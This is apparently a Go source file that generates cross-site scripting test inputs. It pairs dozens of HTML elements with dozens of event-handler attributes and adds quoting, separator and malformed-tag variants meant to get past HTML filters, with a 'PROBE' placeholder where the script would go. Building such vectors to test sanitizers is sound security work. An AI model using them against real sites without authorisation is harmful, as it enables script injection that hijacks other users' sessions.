package payloads

// element is an element that may fire events. Its attributes are chosen so that
// the events fire; content is the markup after the start tag.
type element struct{ tag, attributes, content string }

func elements() []element {
	return []element{
		{"img", "src=x:", ""}, {"img", "src=/missing.png srcset=/missing.png", ""}, {"image", "src=x:", ""},
		{"svg", "", ""}, {"math", "", "<mi>x</mi>"}, {"body", "", ""}, {"html", "", ""}, {"frameset", "", "<frame src=about:blank>"},
		{"iframe", "src=about:blank", "</iframe>"}, {"iframe", "", "</iframe>"}, {"object", "data=x:", "</object>"}, {"embed", "src=x:", ""},
		{"video", "src=x:", "</video>"}, {"video", "", "<source src=x:></video>"}, {"audio", "src=x:", "</audio>"}, {"track", "src=x: default", ""},
		{"link", "rel=stylesheet href=x:", ""}, {"style", "", "p{}</style>"}, {"script", "src=x:", "</script>"},
		{"input", "autofocus", ""}, {"input", "type=image src=x:", ""}, {"textarea", "autofocus", "x</textarea>"}, {"select", "autofocus", "<option>x</select>"},
		{"button", "autofocus", "x</button>"}, {"keygen", "autofocus", ""}, {"details", "open", "<summary>x</summary>y</details>"}, {"dialog", "open", "x</dialog>"},
		{"marquee", "", "x</marquee>"}, {"a", "href=# autofocus tabindex=1", "x</a>"}, {"p", "tabindex=1 autofocus contenteditable", "x</p>"},
		{"div", "popover id=p", "x</div><button popovertarget=p>y</button>"}, {"x-element", "tabindex=1", "x</x-element>"},
		{"table", "background=x:", "<tr><td>x</table>"}, {"h2", "tabindex=1", "x</h2>"}, {"form", "", "<input name=q required><button>x</button></form>"},
		{"label", "", "x<input></label>"}, {"meter", "", "x</meter>"}, {"slot", "", "x</slot>"}, {"portal", "src=x:", "x</portal>"}, {"applet", "code=x", "x</applet>"},
		{"isindex", "", ""}, {"bgsound", "src=x:", ""}, {"area", "href=# tabindex=1", ""}, {"title", "", "x</title>"}, {"noscript", "", "x</noscript>"},
	}
}

func events() []string {
	return []string{
		"onload", "onerror", "onclick", "onfocus", "onfocusin", "onblur", "onmouseover", "onmouseenter", "onmousemove", "onpointerover",
		"onpointerdown", "onmousedown", "onkeydown", "ontoggle", "onbeforetoggle", "onstart", "onfinish", "onscroll", "onwheel", "onresize",
		"onanimationstart", "ontransitionend", "oncanplay", "onloadstart", "onloadeddata", "onsubmit", "oninvalid", "oninput", "onchange", "onauxclick",
		"onbeforeunload", "onpageshow", "onhashchange", "onmessage", "onbegin", "onrepeat", "onend", "oncopy", "onpaste", "ondrag", "onsearch",
		"oncontextmenu", "ondblclick", "onselectstart", "onbeforeinput", "onslotchange", "oncontentvisibilityautostatechange", "onscrollend",
	}
}

// eventHandlers writes every element with a handler of every event.
func eventHandlers(w *writer) {
	for _, e := range elements() {
		for _, event := range events() {
			w.addf("<%s %s %s=PROBE>%s", e.tag, e.attributes, event, e.content)
		}
	}
}

// quoting writes an attribute with all kinds of quotes and separators, which
// a parser may read differently from a filter.
func quoting(w *writer) {
	separators := []string{" ", "/", "\t", "\n", "\f", "\r", "//", " / ", "\v", "\u00a0", "'", `"`, "=", "/ /"}
	quotes := [][2]string{{"", ""}, {`"`, `"`}, {"'", "'"}, {"`", "`"}, {` "`, `" `}, {"\n'", "'\n"}, {`"`, "' "}}
	for _, separator := range separators {
		for _, quote := range quotes {
			w.add("<img" + separator + "src=x:" + separator + "onerror=" + quote[0] + "PROBE" + quote[1] + ">")
		}
	}
	for _, text := range []string{
		`<img src="x:" alt="a>b" onerror=PROBE>`, `<img alt="<!--" src=x: onerror=PROBE title="-->">`, "<img alt=` src=x: onerror=PROBE ` title=x>",
		`<img src=x: ONERROR=PROBE>`, `<IMG SRC=x: oNeRrOr=PROBE>`, `<img src=x: onerror onerror=PROBE>`, `<img src=x: a onerror=PROBE a>`,
		`<p title="</p><img src=x: onerror=PROBE>">x`, `<img title='"' src=x: onerror=PROBE>`, `<img src=x:onerror=PROBE onerror=PROBE>`,
		`<a title="x" "onclick=PROBE href=#>x</a>`, `<a title=x'onclick=PROBE' href=# onclick=PROBE>x</a>`, `<<img src=x: onerror=PROBE>`, `<img src=x: onerror=PROBE//`,
		`<img src=x: onerror=PROBE <p>`, `<img/src/=x:/onerror=PROBE>`, `<img src="x:"onerror="PROBE"alt="">`, `<img =src src=x: =onerror onerror=PROBE>`,
	} {
		w.add(text)
	}
}
